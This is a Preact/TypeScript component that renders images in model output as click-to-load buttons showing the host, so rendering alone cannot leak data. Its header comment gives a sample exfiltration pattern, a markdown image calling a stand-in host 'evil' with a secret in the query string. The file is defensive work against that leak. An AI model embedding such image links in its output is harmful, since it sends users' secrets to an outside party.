/**
 * Model output can embed `![](https://evil/?q=<secret>)` to leak data the moment it renders
 * (threats T3). So an image is a button naming the host; only a click loads it, and only over
 * http(s), without a referrer. If the page's CSP refuses the image, the reader still gets a link.
 */
import { useState } from 'preact/hooks'
import { useT } from '../i18n'
import { safeHttpUrl } from './safe-url'

interface Props {
  src: string
  alt: string
}

type Stage = 'placeholder' | 'loading' | 'failed'

/** A click-to-load image. Non-http(s) sources never load: they render as a text label. */
export function ImagePlaceholder({ src, alt }: Props) {
  const t = useT()
  const [stage, setStage] = useState<Stage>('placeholder')
  const url = safeHttpUrl(src)
  const label = alt.trim() || t('imageNoAlt')
  if (!url) return <span class="md-image-inert">{t('imageInert', label)}</span>
  if (stage === 'placeholder') {
    const load = (event: Event) => {
      // Inside a link, the click must load the image, not also follow the link.
      event.preventDefault()
      setStage('loading')
    }
    return (
      <button type="button" class="md-image-placeholder" data-testid="image-placeholder" onClick={load}>
        {t('imageLoad', [label, url.host])}
      </button>
    )
  }
  if (stage === 'failed') {
    return (
      <a class="md-image-failed" href={url.href} title={url.href} target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer">
        {t('imageFailed', url.host)}
      </a>
    )
  }
  return <img class="md-image" src={url.href} alt={label} referrerpolicy="no-referrer" onError={() => setStage('failed')} />
}
